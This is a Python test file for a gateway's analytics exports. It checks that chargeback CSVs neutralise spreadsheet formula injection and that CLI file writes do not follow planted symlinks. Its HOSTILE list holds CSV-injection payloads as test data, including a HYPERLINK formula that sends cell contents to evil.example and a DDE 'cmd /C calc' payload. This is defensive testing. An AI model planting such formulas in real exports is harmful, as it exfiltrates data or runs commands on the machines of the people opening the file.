"""Exports finance opens: no cell a spreadsheet would run as a formula (OWASP CSV injection), and
files the CLI writes never follow a link planted beside them."""
from __future__ import annotations

import argparse
import csv
import io
import os
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from llmgw.analytics import cli, queries, store
from llmgw.analytics.csv_safe import csv_cell
from llmgw.analytics.sink import Sink
from llmgw.core.files import atomic_write
from tests.admin_support import OWNER_KEY, Api
from tests.fixtures.chdb import AnalyticsDB, usage_event
from tests.gateway_harness import GatewayHarness

# What a client or an admin can put in a group value: a user name, a tag value, a model name.
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tcmd", "\r=1", "=cmd|x"]


def hostile_events() -> list[Any]:
    return [usage_event(i, user=v, tags=(f"cost:{v}", "project:apollo")) for i, v in enumerate(HOSTILE)]


def assert_no_formula_cells(text: str) -> None:
    """Every cell a spreadsheet reads is inert: none starts with a formula character, the hostile ones
    arrive as quoted text with a leading apostrophe, and the exact original value follows it."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [c for row in rows for c in row]
    for c in cells:
        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
        assert not c.startswith("-") or c.lstrip("-").replace(".", "").isdigit(), c
    for v in HOSTILE:
        assert "'" + v in cells, v
        assert '"' + ("'" + v).replace('"', '""') + '"' in text       # quoted, as OWASP recommends


def test_csv_cell_neutralizes_formula_leads_and_keeps_numbers() -> None:
    assert csv_cell("=1+2") == "\"'=1+2\""
    assert csv_cell("@x") == "\"'@x\"" and csv_cell("\tx") == "\"'\tx\"" and csv_cell("\rx") == "\"'\rx\""
    assert csv_cell("-0.50") == "-0.50" and csv_cell("+12") == "+12" and csv_cell(-3) == "-3"
    assert csv_cell("a,b") == '"a,b"' and csv_cell('say "hi"') == '"say ""hi"""' and csv_cell("plain") == "plain"
    assert csv_cell("-x") == "\"'-x\"" and csv_cell("") == ""


def _run(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="llmgw")
    cli.register(parser.add_subparsers(dest="command", required=True), environ={})
    args = parser.parse_args(argv)
    return int(args.func(args))


@pytest.fixture
def hostile_db(analytics_db: AnalyticsDB) -> list[str]:
    analytics_db.sink.insert(hostile_events())
    return ["--dsn", analytics_db.dsn, "--database", analytics_db.database]


def test_cli_chargeback_file_has_no_formula_cells(hostile_db: list[str], tmp_path: Path) -> None:
    out = tmp_path / "cb.csv"
    assert _run(["chargeback", *hostile_db, "--month", "2026-11", "--by", "user,tag:cost", "--out", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as f:
        assert_no_formula_cells(f.read())


def test_cli_chargeback_stdout_has_no_formula_cells(hostile_db: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert _run(["chargeback", *hostile_db, "--month", "2026-11", "--by", "user,tag:cost"]) == 0
    assert_no_formula_cells(capsys.readouterr().out)


@pytest.fixture
async def analytics_gw(fake_provider: Any, tmp_path: Path, chdb_dsn: str) -> AsyncIterator[GatewayHarness]:
    database = f"t_{uuid.uuid4().hex[:12]}"
    h = GatewayHarness(fake_provider, tmp_path, analytics=True, admin_key=OWNER_KEY,
                       clickhouse_dsn=f"{chdb_dsn}?database={database}")
    await h.start()
    try:
        sink = Sink(store.connect(chdb_dsn), database)
        sink.ensure_schema()
        sink.insert(hostile_events())
        yield h
    finally:
        await h.stop()
        store.connect(chdb_dsn).command(f"DROP DATABASE IF EXISTS {database} SYNC")
        store.disconnect(chdb_dsn, database=database)


async def test_http_chargeback_csv_has_no_formula_cells(analytics_gw: GatewayHarness) -> None:
    async with aiohttp.ClientSession() as http:
        status, text = await Api(http, analytics_gw.url, OWNER_KEY).get(
            "/admin/chargeback.csv?month=2026-11&by=user,tag:cost")
    assert status == 200
    assert_no_formula_cells(text)


# -- files the CLI writes ------------------------------------------------------------------------------

def test_chargeback_out_does_not_follow_a_planted_partial_link(hostile_db: list[str], tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "cb.csv"
    os.symlink(victim, tmp_path / "cb.csv.partial")           # planted by whoever can write the directory
    assert _run(["chargeback", *hostile_db, "--month", "2026-11", "--out", str(out)]) == 0
    assert victim.read_text() == "precious\n"
    assert out.read_text().startswith("month,") and not out.is_symlink()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cb.csv", "cb.csv.partial", "victim.txt"]


def test_chargeback_out_replaces_a_link_at_the_target_instead_of_writing_through_it(
        hostile_db: list[str], tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "cb.csv"
    os.symlink(victim, out)
    assert _run(["chargeback", *hostile_db, "--month", "2026-11", "--out", str(out)]) == 0
    assert victim.read_text() == "precious\n" and not out.is_symlink()


def test_atomic_write_leaves_the_target_untouched_on_failure(tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    target.write_text("old\n")
    with pytest.raises(RuntimeError):
        with atomic_write(target) as f:
            f.write("half")
            raise RuntimeError("disk full")
    assert target.read_text() == "old\n" and [p.name for p in tmp_path.iterdir()] == ["report.csv"]

